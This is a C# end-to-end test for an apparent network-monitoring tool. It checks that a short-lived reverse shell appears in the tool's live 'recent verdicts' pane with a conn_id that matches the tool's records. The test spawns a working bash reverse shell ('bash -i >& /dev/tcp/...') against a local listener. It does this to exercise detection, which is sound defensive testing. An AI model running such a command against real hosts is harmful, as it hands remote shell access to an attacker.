using System.Diagnostics;
using System.Globalization;
using System.Net;
using System.Net.Sockets;
using System.Text.RegularExpressions;
using N3ttrace.EndToEnd.Tests.Export;

namespace N3ttrace.EndToEnd.Tests.Live;

/// <summary>
/// [operator] A 20 ms interactive shell wired to a socket is gone from the active table before the next redraw;
/// the recent-verdicts pane must show it with its conn_id, for at least 60 s, and the conn_id must be the trail's.
/// </summary>
public sealed partial class RecentVerdictsPaneTests : IDisposable
{
    private readonly string _dir = Directory.CreateTempSubdirectory("n3t-pane-").FullName;

    public void Dispose()
    {
        if (Environment.GetEnvironmentVariable("N3TTRACE_KEEP_E2E") != "1")
        {
            Directory.Delete(_dir, recursive: true);
        }
    }

    [GeneratedRegex(@"^(!!|!)\s+\d\d:\d\d:\d\d (THREAT|ANOMALY)\s+conn_id ([0-9a-f]{16}) pid (\d+) (\S+)")]
    private static partial Regex PaneLine();

    [BpfFact]
    public async Task A_20ms_reverse_shell_stays_on_screen_with_its_conn_id()
    {
        using var listener = new TcpListener(IPAddress.Loopback, 0);
        listener.Start();
        var port = ((IPEndPoint)listener.LocalEndpoint).Port;
        // --live-port: other tests running in parallel raise THREATs of their own (beacons, droppers) at a rate
        // no 8-line pane can hold for a minute; the operator's port filter keeps this test's shell in view.
        var script = $"'{Repo.Cli}' run --state-dir state --verify-key-out verify.key --log-file '' --refresh 0.5 --recent 8 --live-port {port} 2>stderr.txt; echo $? > rc; sleep 120";
        using var tmux = new TmuxSession(220, 50, _dir, "sh", "-c", script);
        var stderr = Path.Combine(_dir, "stderr.txt");
        await WaitFor(() => File.Exists(stderr) && File.ReadAllText(stderr).Contains("capture ready", StringComparison.Ordinal), 30, () => Read(stderr));

        // The shell: stdio on the socket; the listener hangs up after 20 ms, so the shell reads EOF and exits.
        var accept = Task.Run(async () =>
        {
            using var peer = await listener.AcceptTcpClientAsync();
            await Task.Delay(20);
        });
        using (var shell = Process.Start(new ProcessStartInfo("/bin/bash", ["-c", $"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"])
        {
            RedirectStandardInput = true,
            RedirectStandardOutput = true,
            RedirectStandardError = true,
        })!)
        {
            await accept;
            Assert.True(shell.WaitForExit(10_000), "the shell did not end when its peer hung up");
        }
        var shownAt = Stopwatch.StartNew();

        Match? line = null;
        await WaitFor(() => (line = Find(tmux.Capture(escapes: false), port)) is not null, 30, () => "no pane line for the shell:\n" + tmux.Capture(escapes: false));
        var connId = line!.Groups[3].Value;
        var firstPane = tmux.Capture(escapes: false);
        await File.WriteAllTextAsync(Path.Combine(_dir, "pane.txt"), firstPane);
        Assert.Contains("seen THREAT ", firstPane, StringComparison.Ordinal);
        Assert.Contains($"filter port={port}", firstPane, StringComparison.Ordinal);
        Assert.Contains("keys: ? help", firstPane, StringComparison.Ordinal);
        Assert.Matches(@"bins\s+<1ms:\d+ <10ms:\d+ <100ms:\d+ <1s:\d+", firstPane);

        // Kept: still there a minute later, closed by then.
        await Task.Delay(TimeSpan.FromSeconds(61) - shownAt.Elapsed);
        var later = tmux.Capture(escapes: false);
        var again = Find(later, port);
        Assert.True(again is not null && again.Groups[3].Value == connId, "gone from the pane within 60 s:\n" + later);
        Assert.Contains("closed after", later.Split('\n').First(l => l.Contains(connId, StringComparison.Ordinal)), StringComparison.Ordinal);

        // ? shows the keys; ? again returns to the table.
        tmux.Keys("?");
        await WaitFor(() => tmux.Capture(escapes: false).Contains("n3ttrace live view: keys", StringComparison.Ordinal), 5, () => tmux.Capture(escapes: false));
        tmux.Keys("h");
        await WaitFor(() => tmux.Capture(escapes: false).Contains(connId, StringComparison.Ordinal), 5, () => tmux.Capture(escapes: false));

        tmux.Keys("q");
        var rc = Path.Combine(_dir, "rc");
        await WaitFor(() => File.Exists(rc) && Read(rc).Length > 0, 30, () => Read(stderr));
        Assert.Equal("0", Read(rc));

        // The conn_id on screen is the trail's record of that shell, and explain finds it.
        var record = TsvFile.Read(Path.Combine(_dir, "state", "birth_records.tsv")).Single(r => r["conn_id"] == connId);
        Assert.Equal(port.ToString(CultureInfo.InvariantCulture), record["rport"]);
        Assert.Contains(record["level"], new[] { "ANOMALY", "THREAT" });
        var explain = CliProcess.N3ttrace(_dir, "explain", connId, "--state-dir", Path.Combine(_dir, "state"));
        Assert.True(explain.ExitCode == 0, explain.ToString());
    }

    private static Match? Find(string pane, int port) =>
        pane.Split('\n').Select(l => PaneLine().Match(l.TrimEnd())).FirstOrDefault(m => m.Success && m.Groups[5].Value.EndsWith($":{port}", StringComparison.Ordinal));

    private static string Read(string path) => File.Exists(path) ? File.ReadAllText(path).Trim() : "";

    private static async Task WaitFor(Func<bool> done, int seconds, Func<string> why)
    {
        var until = DateTime.UtcNow.AddSeconds(seconds);
        while (!done())
        {
            if (DateTime.UtcNow > until)
            {
                Assert.Fail(why());
            }
            await Task.Delay(200);
        }
    }
}
